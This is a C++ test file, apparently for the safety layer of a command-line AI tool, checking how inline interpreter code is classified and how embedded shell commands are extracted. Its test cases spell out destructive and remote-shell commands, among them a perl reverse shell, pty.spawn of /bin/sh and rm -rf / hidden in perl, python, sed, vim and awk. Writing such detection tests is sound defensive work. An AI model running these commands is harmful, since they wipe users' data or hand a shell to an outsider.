#include "safety/inline_code.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "safety/programs.h"

namespace cmdai::safety {
namespace {

struct CodeCase {
  const char* program;
  std::vector<std::string> args;
  const char* expected;  // "none", "trivial", "unknown", "destroys", "remote"
};

std::string classify(const InlineCode& code) {
  if (!code.present) return "none";
  if (code.remote_shell || code.runs_download) return "remote";
  if (code.destroys) return "destroys";
  if (code.trivial && !code.runs_unknown && !code.encoded) return "trivial";
  return "unknown";
}

class InlineCodeTable : public testing::TestWithParam<CodeCase> {};

TEST_P(InlineCodeTable, ClassifiesWhatTheCodeVisiblyDoes) {
  const CodeCase& c = GetParam();
  EXPECT_EQ(classify(scan_inline_code(c.program, c.args)), c.expected) << c.program;
}

INSTANTIATE_TEST_SUITE_P(
    Languages, InlineCodeTable,
    testing::Values(
        CodeCase{"python", {"-c", "print(1 + 2)"}, "trivial"},
        CodeCase{"python", {"script.py"}, "none"}, CodeCase{"python", {"-m", "json.tool"}, "none"},
        CodeCase{"python", {"-c", "import shutil; shutil.rmtree('x')"}, "destroys"},
        CodeCase{"python", {"-c", "import os; os.remove('/etc/passwd')"}, "destroys"},
        CodeCase{"python", {"-c", "import os; os.remove('notes.txt')"}, "unknown"},
        CodeCase{"python", {"-c", "import pty; pty.spawn('/bin/sh')"}, "remote"},
        CodeCase{"python", {"-c", "exec(open('x').read())"}, "unknown"},
        CodeCase{"perl", {"-ne", "print if /x/"}, "trivial"},
        CodeCase{
            "perl", {"-MIO::Socket", "-e", "$s=IO::Socket::INET->new('h:1');exec('sh')"}, "remote"},
        CodeCase{"node", {"-e", "console.log(1)"}, "trivial"},
        CodeCase{"awk", {"{print $1}", "f"}, "trivial"},
        CodeCase{"awk", {"{system($0)}"}, "unknown"}, CodeCase{"sed", {"s/a/b/g", "f"}, "none"},
        CodeCase{"sed", {"s/.*/date/e"}, "unknown"}, CodeCase{"vim", {"-c", "set nu"}, "none"},
        CodeCase{"pwsh", {"-EncodedCommand", "ZQBjAGgAbwA="}, "unknown"}));

TEST(InlineCode, HandsLiteralShellCommandsToTheAnalysis) {
  EXPECT_EQ(scan_inline_code("perl", {"-e", "system(\"rm -rf ~\")"}).shell_commands,
            std::vector<std::string>{"rm -rf ~"});
  EXPECT_EQ(scan_inline_code("python", {"-c",
                                        "import subprocess; subprocess.run(['rm', '-rf', "
                                        "'/'])"})
                .shell_commands,
            std::vector<std::string>{"rm -rf /"});
  EXPECT_EQ(scan_inline_code("sed", {"1e rm -rf ~", "f"}).shell_commands,
            std::vector<std::string>{"rm -rf ~"});
  EXPECT_EQ(scan_inline_code("vim", {"+!rm -rf ~"}).shell_commands,
            std::vector<std::string>{"rm -rf ~"});
  EXPECT_EQ(scan_inline_code("awk", {"BEGIN{\"rm -rf ~\" | getline}"}).shell_commands,
            std::vector<std::string>{"rm -rf ~"});
}

TEST(Programs, DropsVersionSuffixesOfShellsAndInterpretersOnly) {
  EXPECT_EQ(canonical_program("python3.12"), "python");
  EXPECT_EQ(canonical_program("bash5"), "bash");
  EXPECT_EQ(canonical_program("ksh93"), "ksh");
  EXPECT_EQ(canonical_program("mkfs.ext4"), "mkfs.ext4");
  EXPECT_EQ(canonical_program("sha256sum"), "sha256sum");
  EXPECT_TRUE(is_known_program("mkfs.xfs"));
  EXPECT_FALSE(is_known_program("frobnicate"));
  EXPECT_TRUE(is_command_wrapper("firejail"));
}

}  // namespace
}  // namespace cmdai::safety
